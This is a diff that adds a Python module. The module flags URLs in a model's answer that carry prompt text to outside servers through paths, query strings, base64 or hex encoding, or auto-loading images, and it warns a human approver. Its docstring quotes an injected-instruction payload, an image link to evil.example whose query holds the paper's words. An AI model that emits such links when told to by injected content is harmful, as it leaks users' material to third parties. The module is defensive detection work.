@@ -1,0 +1,151 @@
+"""Addresses in an answer that carry away what the model was shown: a link whose query holds the paper's words.
+
+A page or a document may order a model to end its answer with `![](https://evil.example/?q=…)`. Whoever shows the
+picture, or follows the link, tells the other server what the address holds.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+from collections.abc import Iterator, Sequence
+from dataclasses import dataclass
+from urllib.parse import SplitResult, parse_qsl, unquote_plus, urlsplit
+
+from backend.kernel.exchange import Turn
+from backend.kernel.works import Source
+
+#: Letters and figures in a row that an address must share with the prompt: some three words. Shorter runs are names.
+LEAST = 20
+#: The same in an address's path, where papers have their titles.
+LEAST_IN_PATH = 48
+#: Characters of addresses that are looked at, all together; nobody reads a longer one.
+MOST = 20_000
+#: Hosts whose paths are identifiers.
+_RESOLVERS = frozenset({"doi.org", "dx.doi.org", "hdl.handle.net", "arxiv.org"})
+_ADDRESS = re.compile(r"(?:https?:)?//[^\s<>\"'`\\]+", re.IGNORECASE)
+_PICTURE = re.compile(
+    r"!\[[^\[\]]{0,2000}\]\(\s*<?((?:https?:)?//[^\s<>)]+)|<img\b[^<>]{0,2000}?\bsrc\s*=\s*[\"']?((?:https?:)?//[^\s\"'<>]+)",
+    re.IGNORECASE,
+)
+_CODED = re.compile(r"[A-Za-z0-9+/_-]{16,}")
+_APART = re.compile(r"[\W_]+")
+
+
+@dataclass(frozen=True, slots=True)
+class _Said:
+    """What the addresses of one server say: in their paths, in the values of their queries, and elsewhere."""
+
+    paths: list[str]
+    values: list[str]
+    others: list[str]
+
+
+def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] = ()) -> tuple[str, ...]:
+    """Name the addresses of an answer that carry away text, and the hosts of its pictures.
+
+    `shown` is what the model was shown, `known` are sources that a search found. The addresses in them are the
+    model's to repeat.
+    """
+    texts = [each.content for each in shown]
+    found = list(_strange(answer, [*texts, *(each.url for each in known if each.url)]))
+    if not found:
+        return ()
+    prompt = _plain("\n".join(texts))
+    told = [
+        f"The address at {host} carries words of what the model was shown to that server: do not follow it, and take "
+        "it out before you approve."
+        for host in dict.fromkeys(host for host, said in _by_host(found).items() if _carries(said, prompt))
+    ]
+    pictures = dict.fromkeys(_host(each) for each in _pictures(answer) if each in found)
+    told += [f"The answer embeds a picture from {host}: whoever shows it calls that server." for host in pictures]
+    return tuple(told)
+
+
+def _strange(answer: str, known: Sequence[str]) -> Iterator[str]:
+    """Return the addresses of an answer that stand in nothing that it was given."""
+    room = MOST
+    for found in _ADDRESS.finditer(answer):
+        address = found[0].rstrip(").,;:!?]}*_")
+        room -= len(address)
+        if room < 0:
+            return
+        if not any(address in text for text in known):
+            yield address
+
+
+def _pictures(answer: str) -> Iterator[str]:
+    for found in _PICTURE.finditer(answer):
+        yield (found[1] or found[2]).rstrip(").,;:!?]}*_")
+
+
+def _host(address: str) -> str:
+    return _split(address).netloc.rpartition("@")[2].casefold()[:100] or "another server"
+
+
+def _split(address: str) -> SplitResult:
+    try:
+        return urlsplit(address)
+    except ValueError:
+        return SplitResult("", "another server", "", address, "")
+
+
+def _by_host(addresses: Sequence[str]) -> dict[str, _Said]:
+    """Return what the addresses of each server say."""
+    hosts: dict[str, _Said] = {}
+    for address in addresses:
+        parts = _split(address)
+        name = _host(address)
+        own = ".".join(name.split(".")[-2:])
+        said = hosts.setdefault(own, _Said([], [], []))
+        if own not in _RESOLVERS:
+            said.paths.append(parts.path)
+            said.others.extend(reading for each in parts.path.split("/") for reading in _coded(each))
+        said.values.extend([value for _, value in parse_qsl(parts.query)] or [parts.query])
+        said.others.extend([parts.fragment, parts.netloc.rpartition("@")[0], name.removesuffix(own)])
+    return hosts
+
+
+def _carries(said: _Said, prompt: str) -> bool:
+    return (
+        _shares(said.paths, prompt, LEAST_IN_PATH)
+        or _shares(said.values, prompt, LEAST)
+        or _shares(said.others, prompt, LEAST)
+    )
+
+
+def _shares(pieces: Sequence[str], prompt: str, least: int) -> bool:
+    """Say whether the pieces, one behind the other or decoded, have so many characters in a row with the prompt."""
+    told = unquote_plus("".join(pieces))
+    readings = [told, told[::-1], *(reading for each in pieces for reading in _coded(unquote_plus(each)))]
+    return any(_has_run(_plain(each), prompt, least) for each in readings)
+
+
+def _coded(text: str) -> Iterator[str]:
+    """Return what runs of base64 and of hexadecimal digits say."""
+    for found in _CODED.finditer(text):
+        for decode in (_base64, bytes.fromhex):
+            try:
+                yield decode(found[0]).decode("utf-8")
+            except ValueError:
+                continue
+
+
+def _base64(run: str) -> bytes:
+    return base64.urlsafe_b64decode(run.replace("+", "-").replace("/", "_") + "=" * (-len(run) % 4))
+
+
+def _has_run(text: str, prompt: str, least: int) -> bool:
+    """A run of `least` characters holds a whole window of half its length, wherever the windows begin."""
+    half = least // 2
+    for at in range(0, len(text) - half + 1, half):
+        if text[at : at + half] not in prompt:
+            continue
+        starts = range(max(0, at - half), min(at, len(text) - least) + 1)
+        if any(text[start : start + least] in prompt for start in starts):
+            return True
+    return False
+
+
+def _plain(text: str) -> str:
+    return _APART.sub("", text).casefold()
